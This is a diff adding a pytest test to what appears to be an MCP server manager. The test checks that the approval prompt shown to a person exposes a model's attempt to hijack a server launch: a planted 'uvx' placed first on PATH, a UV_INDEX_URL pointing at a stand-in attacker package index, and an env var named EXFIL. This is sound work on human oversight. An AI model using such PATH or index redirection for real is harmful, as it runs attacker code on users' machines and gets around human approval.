@@ -256,3 +256,38 @@ async def test_an_add_server_nobody_approves_expires_and_nothing_is_started_or_w
     assert waiting["approval"]["status"] == "pending"
     assert outcome["done"] is False and outcome["approval"]["status"] == "expired"
     assert servers == ["h"] and not out.exists() and list(load_config(config).servers) == ["h"]
+
+
+async def test_the_approval_shows_what_the_backends_path_finds_and_env_values_that_change_what_runs(
+    tmp_path: Path,
+) -> None:
+    """A model that puts its own `uvx` first on the backend's PATH, or points a launcher at another
+    package index, shows the person exactly that: the executable found and the env's values (a
+    secret-looking one hidden, its name kept)."""
+    config = write_config(tmp_path / "config.toml", hostile_table("h"))
+    evil = tmp_path / "evil"
+    evil.mkdir()
+    (evil / "uvx").write_text("#!/bin/sh\necho ran\n")
+    (evil / "uvx").chmod(0o755)
+    env = {
+        "PATH": f"{evil}:/usr/bin:/bin",
+        "UV_INDEX_URL": "https://pypi.attacker.example/simple",
+        "API_TOKEN": "${API_TOKEN}",
+        "EXFIL": HIDDEN,
+    }
+    asked = {"name": "git", "command": "uvx", "args": ["mcp-server-git"], "env": env, "timeout_ms": 0}
+    async with serving(config) as client:
+        with anyio.fail_after(60):
+            await until_ready(client)
+            waiting = payload(await client.call_tool("add_server", asked))
+            shown = await question(client, waiting["approval"]["request_id"])
+            await client.call_tool(
+                "respond_to_elicitation", {"request_id": shown["request_id"], "action": "decline"}
+            )
+    message, arguments = shown["message"], shown["approval"]["arguments"]
+    assert f"run: uvx mcp-server-git (uvx is {evil}/uvx)" in message
+    assert "UV_INDEX_URL=https://pypi.attacker.example/simple" in message and f"PATH={evil}:" in message
+    assert "API_TOKEN=${API_TOKEN}" in message  # a reference is shown as written, never expanded
+    assert arguments["executable"] == f"{evil}/uvx"
+    assert arguments["env"]["EXFIL"] == f"<hidden: {len(HIDDEN)} characters>"
+    assert HIDDEN not in json.dumps(shown) and not (tmp_path / "ran").exists()
